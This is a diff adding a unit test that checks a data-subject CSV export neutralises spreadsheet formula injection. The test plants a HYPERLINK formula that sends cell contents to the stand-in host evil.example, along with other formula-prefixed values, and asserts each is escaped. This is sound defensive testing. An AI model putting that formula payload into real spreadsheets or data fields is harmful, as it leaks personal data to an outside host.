@@ -207,3 +207,33 @@ def test_command_export_erase_restrict(subject, tmp_path: Path, capsys):
     assert requests[0].handled_by is None
     assert requests[0].handled_by_label.startswith("command-line:")
     assert_no_full_number_in_audit(nik(42))
+
+
+def test_csv_copy_neutralises_formulas_typed_into_the_data(operator, subject):
+    """Killed mutant: formula defusing removed from the data-subject CSV. A person's copy opened
+    in a spreadsheet must show what was typed, never run it."""
+    first = subject["registrations"][0]
+    Registration.objects.filter(pk=first.pk).update(
+        address='=HYPERLINK("http://evil.example/?"&A1,"klik")\nJl. Merdeka 1',
+        birth_place="@SUM(1+1)",
+    )
+    UserFactory._meta.model.objects.filter(pk=subject["staff"].user_id).update(
+        first_name="+62 812", last_name="-1"
+    )
+    request = open_request(operator, nik(42))
+
+    export = services.data_subject_request_export(actor=operator, request=request, fmt="csv")
+    text = export.content.decode("utf-8-sig")
+    rows = list(csv.reader(io.StringIO(text)))
+
+    assert [
+        "registrations",
+        "1",
+        "address",
+        '\'=HYPERLINK("http://evil.example/?"&A1,"klik") Jl. Merdeka 1',
+    ] in rows
+    assert ["registrations", "1", "birth_place", "'@SUM(1+1)"] in rows
+    assert ["outlet_staff", "1", "name", "'+62 812 -1"] in rows
+    values = [row[3] for row in rows[1:]]
+    assert not [value for value in values if value[:1] in ("=", "+", "-", "@", "\t", "\r")]
+    assert len(text.splitlines()) == len(rows)  # no value spans two lines
